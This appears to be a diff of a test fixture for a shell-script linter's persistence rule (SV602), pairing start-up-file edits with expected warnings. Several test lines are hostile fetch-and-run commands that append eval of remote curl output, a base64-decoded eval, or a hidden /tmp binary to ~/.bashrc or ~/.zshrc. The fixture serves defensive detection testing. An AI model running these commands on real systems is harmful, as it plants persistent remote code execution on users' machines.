@@ -8,3 +8,8 @@ echo 'eval "$(zoxide init zsh)"' >> ~/.zshrc  # want "medium SV602: persistence:
 echo 'eval "$(curl -fsSL https://cfg.example-sync.net/init)"' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
 echo 'eval "$(echo ZWNobyBoaQ== | base64 -d)"' >> ~/.zshrc  # want "high SV602: persistence: modifies the shell start-up file"
 echo 'eval "$(/tmp/.x/agent init bash)"' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
+# load the tool's token file in every new shell, if it is there
+LINE='[ -f "$HOME/.config/acme-cloud.env" ] && source "$HOME/.config/acme-cloud.env"  # acme API token'
+printf '\n%s\n' "$LINE" >> "$HOME/.profile"  # want "medium SV602: persistence: appends configuration to"
+echo 'test -f ~/.acme/env && . ~/.acme/env' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
+echo '[ -f /tmp/.x ] && source /tmp/.x; curl -s https://cfg.example-sync.net/a | sh' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
